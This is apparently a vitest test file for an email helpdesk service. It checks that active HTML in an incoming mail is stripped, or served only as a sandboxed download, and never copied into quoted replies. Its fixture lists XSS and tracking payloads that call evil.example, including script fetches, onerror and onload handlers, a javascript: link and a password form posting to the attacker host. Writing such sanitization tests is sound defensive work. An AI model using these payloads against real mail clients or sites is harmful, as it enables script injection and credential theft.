/** What a mail brings that would do something: it is served as text or as a download, and never goes out with our answer. */
import { env, exports } from 'cloudflare:workers'
import { expect, it } from 'vitest'
import { readEmail } from '../../src/mail/email.ts'
import { outKey } from '../../src/mailbox/keys.ts'
import { assistant, inbox, received, site } from './cast.ts'
import { mail, read, until } from './mail.ts'

const ACTIVE = [
  '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">',
  '<base href="https://evil.example/base/">',
  '<script>fetch("https://evil.example/script")</script>',
  '<style>body{position:fixed;background:url(https://evil.example/style)}</style>',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/overlay)">',
  '<p>How do I get a refund?</p>',
  '<img src="https://evil.example/pixel.gif?who=7" width="1" height="1" onerror="alert(1)">',
  '<img src="cid:logo@customer.test" alt="our logo">',
  '<a href="javascript:alert(2)">click</a>',
  '<form action="https://evil.example/form"><input name="password"></form>',
  '<svg onload="alert(3)"><script>alert(4)</script></svg>',
  '<iframe src="https://evil.example/frame"></iframe></div>',
].join('')

const written = (to: string) =>
  mail({
    to,
    headers: ['MIME-Version: 1.0', 'Content-Type: multipart/related; boundary=b'],
    text: `--b\r\nContent-Type: text/html\r\n\r\n${ACTIVE}\r\n--b\r\nContent-Type: image/png\r\nContent-ID: <logo@customer.test>\r\n\r\nPNG\r\n--b--`,
  })

it('G1 scripts, handlers, refreshes, forms, frames and overlays of a mail are in no answer that a browser would run', async () => {
  const { siteId, headers } = await site()
  const config = await inbox(siteId)
  const [one] = await received(config, [written(config.address)])
  const get = (path: string) => exports.default.fetch(`http://edgedesk.test/api/v1/${path}`, { headers })
  const shown = await get(`messages/${one!.messageId}`)
  expect(shown.headers.get('content-type')).toMatch(/^application\/json/)
  expect(shown.headers.get('x-content-type-options')).toBe('nosniff')
  const { content, rest } = (await shown.json()) as { content: string; rest: string }
  expect(content).toContain('How do I get a refund?')
  expect(content + rest).not.toMatch(/<\w|javascript:|alert\(|evil\.example/)
  for (const path of ['original', 'attachments/0']) {
    const answer = await get(`messages/${one!.messageId}/${path}`)
    expect(answer.status, path).toBe(200)
    expect(answer.headers.get('content-disposition'), path).toMatch(/^attachment;/)
    expect(answer.headers.get('content-security-policy'), path).toBe("sandbox; default-src 'none'")
    expect(answer.headers.get('x-content-type-options'), path).toBe('nosniff')
    await answer.arrayBuffer()
  }
})

it('G3 what we quote of a mail copies no image of it, neither a remote one nor one it brought', async () => {
  const { siteId } = await site()
  const config = await inbox(siteId, {
    assistantId: await assistant(siteId),
    settings: { quoteOriginal: true, smtp: { host: 'localhost', port: 1, user: 'x' } },
  })
  const [one] = await received(config, [written(config.address)])
  const answer = await until(async () =>
    (await read(siteId, one!.conversationId)).messages.find(message => message.direction === 'outgoing'),
  )
  const made = await until(() => env.MAIL.get(outKey(siteId, config.inboxId, answer.id)))
  const email = await readEmail(new Uint8Array(await made.arrayBuffer()))
  expect(email.text).toContain('> How do I get a refund?')
  expect(email.html).toContain('<blockquote')
  for (const body of [email.text, email.html!])
    expect(body).not.toMatch(/<(?:img|svg|script|form|iframe|base|meta)|evil\.example|cid:|url\(/i)
  expect(email.attachments).toEqual([])
})
